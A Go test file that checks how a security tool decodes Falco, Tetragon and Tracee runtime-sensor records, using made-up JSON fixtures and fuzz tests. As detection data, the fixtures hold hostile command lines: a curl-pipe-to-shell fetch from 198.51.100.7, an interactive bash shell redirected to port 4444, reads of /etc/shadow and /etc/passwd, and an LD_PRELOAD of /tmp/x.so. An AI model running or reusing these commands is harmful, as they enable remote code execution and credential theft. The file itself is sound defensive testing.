package decode

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/vedette-project/vedette/internal/event"
)

// Records in the forms of other sensors, made up after their documentation.
const (
	falcoExec   = `{"hostname":"node-b","output":"10:00:01.000000005: Notice A shell was spawned in a container with an attached terminal | evt_type=execve","output_fields":{"container.id":"77aa88bb99cc","container.image.repository":"registry.example.com/shop/web","container.image.tag":"1.4","container.name":"web","evt.arg.flags":"EXE_WRITABLE|EXE_UPPER_LAYER","evt.time":1777629601000000005,"evt.type":"execve","k8s.ns.name":"shop","k8s.pod.name":"web-0","proc.aname[2]":"containerd-shim","proc.cmdline":"sh -c curl -s http://198.51.100.7/x | sh","proc.exepath":"/tmp/sh","proc.name":"sh","proc.pid":8123,"proc.pname":"runc","proc.pexepath":"/usr/bin/runc","proc.ppid":8100,"proc.tty":34816,"user.name":"root","user.uid":0},"priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["container","maturity_stable","T1059"],"time":"2026-05-01T10:00:01.000000005Z"}`
	falcoDup    = `{"uuid":"b2f4ad6e-5d3f-4f35-8d9b-0f7a7d1d2c55","output":"Redirect stdout/stdin to network connection","priority":"Notice","rule":"Redirect STDOUT/STDIN to Network Connection in Container","time":"2026-05-01T10:00:02Z","output_fields":{"container.id":"77aa88bb99cc","evt.type":"dup2","evt.res":"1","fd.name":"198.51.100.20:51234->203.0.113.9:4444","fd.l4proto":"tcp","fd.type":"ipv4","fd.num":3,"proc.name":"bash","proc.cmdline":"bash -i","proc.pid":9001,"user.uid":33},"source":"syscall","tags":["container"],"hostname":"node-b"}`
	falcoRead   = `{"output":"Sensitive file opened for reading by non-trusted program","output_fields":{"container.id":"host","evt.type":"openat","evt.arg.flags":"O_RDONLY","fd.name":"/etc/shadow","proc.name":"cat","proc.cmdline":"cat /etc/shadow","proc.exepath":"/usr/bin/cat","user.name":"jane","user.uid":1000},"priority":"Warning","rule":"Read sensitive file untrusted","source":"syscall","time":"2026-05-01T10:00:03.5Z"}`
	falcoLost   = `{"output":"Falco internal: syscall event drop. 815 system calls dropped in last second.","output_fields":{"n_drops":"815","n_evts":"227035"},"priority":"Debug","rule":"Falco internal: syscall event drop","time":"2026-05-01T10:00:04Z","hostname":"node-b"}`
	falcoAudit  = `{"output":"K8s Secret Get Successfully","output_fields":{"ka.user.name":"jane"},"priority":"Error","rule":"K8s Secret Get Successfully","source":"k8s_audit","time":"2026-05-01T10:00:05Z"}`
	tetraExec   = `{"process_exec":{"process":{"exec_id":"bm9kZS1jOjE=","pid":52699,"uid":0,"cwd":"/","binary":"/bin/sh","arguments":"-c \"cat /etc/hostname; id\" last","flags":"execve rootcwd clone","start_time":"2026-05-01T10:00:01.25Z","auid":4294967295,"pod":{"namespace":"shop","name":"web-6d4cf56db6-x7k2p","uid":"5e1e7a40-7d5c-4c4b-9d0b-3f9a3c2f7a11","container":{"id":"containerd://551e161c47d8ff0eb665438a7bcd5b4e3ef5a297282b40a92b7c77d6bd168eb3","name":"web","image":{"id":"registry.example.com/shop/web@sha256:aa","name":"registry.example.com/shop/web:1.4"},"start_time":"2026-05-01T09:00:00Z","pid":49},"workload":"web","workload_kind":"Deployment"},"docker":"551e161c47d8ff0eb665438a7bcd5b4","parent_exec_id":"bm9kZS1jOjI=","tid":52699,"binary_properties":{"file":{"inode":{"number":"1048580","links":0},"path":"/memfd:x (deleted)"}}},"parent":{"exec_id":"bm9kZS1jOjI=","pid":52600,"uid":0,"cwd":"/","binary":"/usr/bin/node","arguments":"server.js","start_time":"2026-05-01T09:00:00Z"},"ancestors":[{"exec_id":"bm9kZS1jOjM=","pid":52500,"binary":"/pause"}]},"node_name":"node-c","time":"2026-05-01T10:00:01.25Z","cluster_name":"prod"}`
	tetraWrite  = `{"process_kprobe":{"process":{"exec_id":"bm9kZS1jOjQ=","pid":64746,"uid":0,"cwd":"/","binary":"/bin/vi","arguments":"/etc/passwd","flags":"execve rootcwd clone"},"parent":{"exec_id":"bm9kZS1jOjU=","pid":64615,"uid":0,"binary":"/bin/sh"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/passwd","permission":"-rw-r--r--"}},{"int_arg":2}],"return":{"int_arg":0},"action":"KPROBE_ACTION_POST","policy_name":"file-monitoring"},"node_name":"node-c","time":"2026-05-01T10:00:02Z"}`
	tetraRead   = `{"process_kprobe":{"process":{"exec_id":"bm9kZS1jOjQ=","pid":64746,"uid":0,"cwd":"/","binary":"/bin/cat"},"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/passwd"}},{"int_arg":4}],"policy_name":"file-monitoring"},"node_name":"node-c","time":"2026-05-01T10:00:02Z"}`
	tetraTCP    = `{"process_kprobe":{"process":{"exec_id":"bm9kZS1jOjY=","pid":7,"uid":0,"binary":"/usr/bin/curl","arguments":"http://203.0.113.9"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"198.51.100.20","daddr":"203.0.113.9","sport":48202,"dport":80}}],"policy_name":"connect"},"node_name":"node-c","time":"2026-05-01T10:00:03Z"}`
	tetraMount  = `{"process_kprobe":{"process":{"exec_id":"bm9kZS1jOjc=","pid":8,"uid":0,"binary":"/usr/bin/mount"},"function_name":"__x64_sys_mount","args":[{"string_arg":"/dev/sda1"},{"string_arg":"/mnt"},{"string_arg":"ext4"}]},"node_name":"node-c","time":"2026-05-01T10:00:03Z"}`
	tetraExit   = `{"process_exit":{"process":{"exec_id":"bm9kZS1jOjE=","pid":52699,"binary":"/bin/sh"},"signal":"SIGKILL","time":"2026-05-01T10:00:04Z"},"node_name":"node-c","time":"2026-05-01T10:00:04Z"}`
	tetraLimit  = `{"rate_limit_info":{"number_of_dropped_process_events":"4021"},"node_name":"node-c","time":"2026-05-01T10:00:05Z"}`
	traceeExec  = `{"timestamp":1777629601500000000,"threadStartTime":1777629601490000000,"processorId":7,"processId":36,"cgroupId":1386180,"threadId":36,"parentProcessId":10,"hostProcessId":324220,"hostThreadId":324220,"hostParentProcessId":320548,"userId":0,"mountNamespace":4026532829,"pidNamespace":4026532833,"processName":"ls","executable":{"path":"/usr/bin/bash"},"hostName":"web-0","container":{"id":"551e161c47d8","name":"web","image":"registry.example.com/shop/web:1.4"},"kubernetes":{"podName":"web-0","podNamespace":"shop","podUID":"u-1"},"eventId":"715","eventName":"sched_process_exec","matchedPolicies":["all"],"argsNum":3,"returnValue":0,"syscall":"execve","processEntityId":3999221038,"parentEntityId":3069802613,"args":[{"name":"cmdpath","type":"const char*","value":"/bin/ls"},{"name":"pathname","type":"const char*","value":"/usr/bin/ls"},{"name":"argv","type":"const char**","value":["ls","-la dir","/tmp"]},{"name":"env","type":"const char**","value":["PATH=/bin","LD_PRELOAD=/tmp/x.so"]}]}`
	traceeDNS1  = `{"timestamp":1777629602000000000,"processId":472,"hostProcessId":472,"hostParentProcessId":1,"userId":976,"processName":"curl","hostName":"node-d","container":{},"kubernetes":{},"eventId":"2006","eventName":"net_packet_dns","argsNum":5,"returnValue":0,"args":[{"name":"src","type":"const char*","value":"192.0.2.53"},{"name":"dst","type":"const char*","value":"198.51.100.50"},{"name":"src_port","type":"u16","value":53},{"name":"dst_port","type":"u16","value":36031},{"name":"proto_dns","type":"trace.ProtoDNS","value":{"ID":57779,"QR":1,"opCode":"query","questions":[{"name":"Pool.example.net","type":"A","class":"IN"}],"answers":[{"name":"pool.example.net","type":"A","class":"IN","TTL":300,"IP":"203.0.113.77","CNAME":""}]}}]}`
	traceeSig   = `{"timestamp":1777629603000000000,"processId":36,"hostProcessId":36,"hostParentProcessId":1,"userId":0,"processName":"x","hostName":"node-d","container":{"id":"551e161c47d8"},"kubernetes":{},"eventId":"6015","eventName":"fileless_execution","argsNum":0,"returnValue":0,"args":[],"metadata":{"Version":"1","Description":"A program ran from memory.","Tags":null,"Properties":{"Category":"defense-evasion","Severity":3,"signatureID":"TRC-105","signatureName":"Fileless execution detected"}}}`
	traceeConn2 = `{"timestamp":{"seconds":"1777629604","nanos":250},"id":"security_socket_connect","name":"security_socket_connect","policies":{"matched":["net"]},"workload":{"process":{"thread":{"name":"curl","start_time":{"seconds":"1777629600"},"host_tid":12345,"tid":77},"unique_id":{"value":1234567890},"host_pid":{"value":12345},"pid":{"value":77},"real_user":{"id":{"value":33}},"executable":{"path":"/usr/bin/curl"},"ancestors":[{"unique_id":{"value":987},"host_pid":{"value":1234},"pid":{"value":1}}]},"container":{"id":"551e161c47d8","name":"web","image":{"name":"registry.example.com/shop/web:1.4"}},"k8s":{"pod":{"name":"web-0","uid":"u-1"},"namespace":{"name":"shop"}}},"data":[{"name":"sockfd","int32":3},{"name":"type","str":"SOCK_STREAM"},{"name":"remote_addr","sockaddr":{"sa_family":"AF_INET","sin_addr":"203.0.113.9","sin_port":443}}]}`
)

var foreigns = []string{falcoExec, falcoDup, falcoRead, falcoLost, falcoAudit, tetraExec, tetraWrite, tetraRead, tetraTCP, tetraMount, tetraExit, tetraLimit,
	traceeExec, traceeDNS1, traceeSig, traceeConn2}

func TestFalco(t *testing.T) {
	e := oneRuntime(t, falcoExec)
	r := e.Runtime
	p := r.Process
	if r.Kind != event.KindExec || r.Sensor.Name != "falco" || r.Node.Name != "node-b" || r.Alert.Rule != "Terminal shell in container" || r.Alert.Priority != "Notice" {
		t.Errorf("%+v", r)
	}
	if p.Name != "sh" || p.Executable != "/tmp/sh" || p.PID != 8123 || !p.TTY || p.User != "root" || !slices.Equal(p.Args, []string{"sh", "-c", "curl -s http://198.51.100.7/x | sh"}) {
		t.Errorf("%+v", p)
	}
	if len(r.Ancestors) != 2 || r.Ancestors[0].Executable != "/usr/bin/runc" || r.Ancestors[1].Name != "containerd-shim" {
		t.Errorf("%+v", r.Ancestors)
	}
	if r.Container.Image != "registry.example.com/shop/web:1.4" || r.Pod.Name != "web-0" || r.Pod.Namespace != "shop" || !r.Exec.File.Upper || r.Exec.File.Path != "/tmp/sh" {
		t.Errorf("%+v %+v %+v", r.Container, r.Pod, r.Exec)
	}
	if e.Time.Nanosecond() != 5 || e.Scope.Cluster != "c" {
		t.Errorf("%v %v", e.Time, e.Scope)
	}
	d := oneRuntime(t, falcoDup).Runtime
	if d.Kind != event.KindDup || d.Dup.FD != 1 || d.Dup.Socket.Remote != netip.MustParseAddrPort("203.0.113.9:4444") || d.Dup.Socket.Protocol != 6 || len(d.Dup.All) != 1 {
		t.Errorf("%+v", d.Dup)
	}
	read := oneRuntime(t, falcoRead).Runtime
	if read.Kind != event.KindAlert || read.File != nil || read.Container != nil || read.Process.User != "jane" {
		t.Errorf("a file that was read: %+v", read)
	}
	write := oneRuntime(t, strings.Replace(falcoRead, "O_RDONLY", "O_TRUNC|O_CREAT|O_WRONLY", 1)).Runtime
	if write.Kind != event.KindOpen || write.File.Path != "/etc/shadow" {
		t.Errorf("a file that was written: %+v", write)
	}
	if lost := oneRuntime(t, falcoLost).Runtime; lost.Kind != event.KindStatus || lost.Status.Lost["syscall"] != 815 {
		t.Errorf("%+v", lost.Status)
	}
	if a := oneRuntime(t, falcoAudit).Runtime; a.Kind != event.KindAlert || a.Process != nil || a.Alert.Rule == "" {
		t.Errorf("%+v", a)
	}
}

func TestTetragon(t *testing.T) {
	e := oneRuntime(t, tetraExec)
	r := e.Runtime
	p := r.Process
	if r.Kind != event.KindExec || r.Sensor.Name != "tetragon" || r.Node.Name != "node-c" || e.Scope.Cluster != "prod" || !r.Exec.File.Memfd || !r.Exec.File.Deleted {
		t.Errorf("%+v %+v", r, r.Exec)
	}
	if !slices.Equal(p.Args, []string{"/bin/sh", "-c", "cat /etc/hostname; id", "last"}) || p.Name != "sh" || p.PID != 52699 || p.NamespacePID != 49 || p.UUID != "bm9kZS1jOjE=" || p.ParentUUID != "bm9kZS1jOjI=" {
		t.Errorf("%+v", p)
	}
	if len(r.Ancestors) != 2 || r.Ancestors[0].Name != "node" || r.Ancestors[1].Name != "pause" {
		t.Errorf("%+v", r.Ancestors)
	}
	if c := r.Container; c.Runtime != "containerd" || c.Name != "web" || len(c.ID) != 64 || r.Pod.OwnerKind != "Deployment" || r.Pod.OwnerName != "web" {
		t.Errorf("%+v %+v", c, r.Pod)
	}
	if w := oneRuntime(t, tetraWrite).Runtime; w.Kind != event.KindOpen || w.File.Path != "/etc/passwd" || !slices.Contains(w.File.Flags, "O_WRONLY") || w.Alert.Rule != "file-monitoring" {
		t.Errorf("%+v %+v", w, w.File)
	}
	if w := oneRuntime(t, tetraRead).Runtime; w.Kind != event.KindAlert || w.File != nil {
		t.Errorf("%+v", w)
	}
	if c := oneRuntime(t, tetraTCP).Runtime; c.Kind != event.KindConnect || c.Net.Socket.Remote != netip.MustParseAddrPort("203.0.113.9:80") || c.Net.Socket.Local.Port() != 48202 || c.Net.Socket.Accepted {
		t.Errorf("%+v", c.Net)
	}
	if m := oneRuntime(t, tetraMount).Runtime; m.Kind != event.KindMount || m.Mount.Source != "/dev/sda1" || m.Mount.Target != "/mnt" || m.Mount.FileSystem != "ext4" {
		t.Errorf("%+v", m.Mount)
	}
	if x := oneRuntime(t, tetraExit).Runtime; x.Kind != event.KindExit || x.Exit.Signal != "SIGKILL" {
		t.Errorf("%+v", x.Exit)
	}
	if l := oneRuntime(t, tetraLimit).Runtime; l.Kind != event.KindStatus || l.Status.Lost["rate_limit"] != 4021 {
		t.Errorf("%+v", l.Status)
	}
	if f := oneRuntime(t, strings.Replace(tetraExec, "execve rootcwd clone", "procFS auid", 1)).Runtime; f.Kind != event.KindFork {
		t.Errorf("a process that ran before is of kind %s", f.Kind)
	}
}

func TestTracee(t *testing.T) {
	r := oneRuntime(t, traceeExec).Runtime
	p := r.Process
	if r.Kind != event.KindExec || r.Sensor.Name != "tracee" || r.Exec.File.Path != "/usr/bin/ls" || p.Executable != "/usr/bin/ls" || p.Name != "ls" || p.Preload != "/tmp/x.so" {
		t.Errorf("%+v %+v", r, p)
	}
	if !slices.Equal(p.Args, []string{"ls", "-la dir", "/tmp"}) || p.PID != 324220 || p.NamespacePID != 36 || p.UUID != "3999221038" || len(r.Ancestors) != 1 || r.Ancestors[0].PID != 320548 {
		t.Errorf("%+v %+v", p, r.Ancestors)
	}
	if r.Container.Image != "registry.example.com/shop/web:1.4" || r.Pod.Name != "web-0" || r.Pod.Namespace != "shop" {
		t.Errorf("%+v %+v", r.Container, r.Pod)
	}
	q := oneRuntime(t, traceeDNS1).Runtime
	if q.Kind != event.KindDNS || q.DNS.Name != "pool.example.net" || q.DNS.Type != "A" || !q.DNS.Response || q.DNS.Server != netip.MustParseAddrPort("192.0.2.53:53") ||
		len(q.DNS.Answers) != 1 || q.DNS.Answers[0].Data != "203.0.113.77" || q.DNS.ID != 57779 {
		t.Errorf("%+v", q.DNS)
	}
	if s := oneRuntime(t, traceeSig).Runtime; s.Kind != event.KindAlert || s.Alert.Rule != "Fileless execution detected" || s.Alert.Priority != "HIGH" || !slices.Contains(s.Alert.Tags, "attack.defense-evasion") || s.Container.ID != "551e161c47d8" {
		t.Errorf("%+v", s.Alert)
	}
	c := oneRuntime(t, traceeConn2).Runtime
	if c.Kind != event.KindConnect || c.Net.Socket.Remote != netip.MustParseAddrPort("203.0.113.9:443") || c.Net.Socket.Family != "AF_INET" || c.Process.PID != 12345 ||
		c.Process.Name != "curl" || c.Process.UID != 33 || c.Pod.Namespace != "shop" || c.Process.UUID != "1234567890" || c.Process.ParentUUID != "987" {
		t.Errorf("%+v %+v %+v", c.Net, c.Process, c.Pod)
	}
}

// TestForeignShapes: they come as collectors hand them on, and among others.
func TestForeignShapes(t *testing.T) {
	for i, s := range foreigns {
		for name, in := range map[string]string{
			"container log": "2026-05-01T10:00:01Z stdout F " + s,
			"Docker":        `{"log":` + quote(s+"\n") + `,"stream":"stdout"}`,
			"array":         "[" + s + "," + s[:len(s)-1] + `,"x":1}]`,
		} {
			b := decodeAll(t, in, false)
			if want := 1 + strings.Count(name, "array"); len(b.Events) != want || len(b.Rejects) != 0 || b.Events[0].Source != event.RuntimeEvents {
				t.Errorf("%d as %s: %d events, %+v", i, name, len(b.Events), b.Rejects)
			}
		}
	}
	all := strings.Join(append(append([]string{event1, trail1}, foreigns...), runtimeExec, query1), "\n")
	if b := decodeAll(t, all, false); len(b.Events) != len(foreigns)+4 || len(b.Rejects) != 0 {
		t.Errorf("%d events, %+v", len(b.Events), b.Rejects)
	}
	for _, s := range []string{`{"rule":"","output":"x","priority":"y","output_fields":{}}`, `{"process_exec":null,"node_name":"n"}`, `{"workload":{},"name":"","data":[],"id":1}`} {
		if b := decodeAll(t, s, false); len(b.Events) != 0 || len(b.Rejects) != 1 || b.Rejects[0].Source != event.RuntimeEvents || !strings.Contains(b.Rejects[0].Detail, "says nothing of a process") {
			t.Errorf("%s: %d events, %+v", s, len(b.Events), b.Rejects)
		}
	}
	for i := 200; i < len(falcoExec)-1; i += 7 {
		if b := decodeAll(t, falcoExec[:i]+"[Truncated...]", false); len(b.Events)+int(totalRejects(b)) != 1 {
			t.Errorf("cut at %d: %d events, %+v", i, len(b.Events), b.Rejects)
		}
	}
}

func TestSplit(t *testing.T) {
	for line, want := range map[string][]string{
		"":                                 nil,
		"ls -l  /tmp":                      {"ls", "-l", "/tmp"},
		"bash -c id; cat /etc/passwd":      {"bash", "-c", "id; cat /etc/passwd"},
		`"/usr/bin/my prog" -x "a b" c"d"`: {"/usr/bin/my prog", "-x", "a b", `c"d"`},
		`/bin/sh -c "a b" c`:               {"/bin/sh", "-c", "a b", "c"},
		`grep -c "x`:                       {"grep", "-c", `"x`},
	} {
		if got := split(line); !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}

func fuzzForeign(f *testing.F, seeds ...string) {
	for _, s := range seeds {
		f.Add(s, false)
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, s string, cut bool) {
		fuzzBodies(t, s, cut, falcoExec, event.RuntimeEvents)
		for _, r := range decodeAll(t, s, cut).Events {
			if r.Runtime != nil && r.Runtime.Kind == "" {
				t.Errorf("a record of no kind: %q", s)
			}
		}
	})
}

func FuzzFalco(f *testing.F) { fuzzForeign(f, falcoExec, falcoDup, falcoRead, falcoLost, falcoAudit) }

func FuzzTetragon(f *testing.F) {
	fuzzForeign(f, tetraExec, tetraWrite, tetraRead, tetraTCP, tetraMount, tetraExit, tetraLimit)
}

func FuzzTracee(f *testing.F) { fuzzForeign(f, traceeExec, traceeDNS1, traceeSig, traceeConn2) }
